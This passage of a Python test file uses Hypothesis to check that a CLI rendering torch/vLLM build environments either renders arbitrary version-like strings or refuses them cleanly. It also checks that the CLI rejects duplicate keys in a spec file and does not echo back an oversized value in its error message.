    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    st.one_of(  # mostly releases envbuild takes; \d: digits of any script (refused)
        st.from_regex(
            r"2\.[4-9](\.[0-9]{1,2})?((a|b|rc)[0-9]|\.?post[0-9]|\.?dev[0-9]|-rc1|c1"
            r"|\.pre1|\+cu128|-1)?",
            fullmatch=True,
        ),
        st.from_regex(r"2\.\d(\.\d)?(rc\d)?", fullmatch=True),
    )
)
def test_any_version_like_string_in_an_overlay_renders_or_is_exit_2(render_cli, tmp_path, version):
    """A torch release (and the vLLM that pins it) named by any version-like string: it renders,
    reaching preflight as written, or it is an exit-2 paragraph; never a traceback."""
    cli = render_cli[0]
    folder = fresh(tmp_path)
    doc = {
        "torch": {version: dict(record("torch", "2.9.0"), torchaudio=version, source=URL)},
        "vllm": {"0.11.0": dict(record("vllm", "0.11.0"), torch=version, source=URL)},
        "profiles": {"v": record("profiles", "h200", torch=version, source=URL)},
    }
    (folder / "lab.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    code, _, err = cli("render", "v", "--matrix-dir", folder, "-o", folder / "out")
    if code == 0:
        out = folder / "out" / "v"
        r = Rendered(rendered_files(out), out)
        assert r.data("preflight.py")["torch_version"] == version
    else:
        assert_refused(code, err)


def test_a_key_named_twice_in_a_from_file_is_refused(cli, tmp_path, p40_spec):
    text = json.dumps(p40_spec)
    (tmp_path / "spec.json").write_text(
        text.replace('"profile": "p40"', '"profile": "p40", "profile": "lab"', 1)
    )
    code, _, err = cli("render", "--from", tmp_path / "spec.json", "-o", tmp_path / "out")
    assert_refused(code, err)
    assert "'profile' twice" in err
    assert not (tmp_path / "out").exists()


def test_a_huge_value_is_not_echoed_back_whole(render_cli, tmp_path):
    cli = render_cli[0]
    folder = fresh(tmp_path)
    (folder / "lab.yaml").write_text(yaml.safe_dump(profile_with(description="x" * 100_000)))
    code, _, err = cli("render", "p40", "--matrix-dir", folder, "-o", tmp_path / "out")
    assert_refused(code, err)
    assert "profiles.p40.description" in err and "100002 characters" in err and len(err) < 600
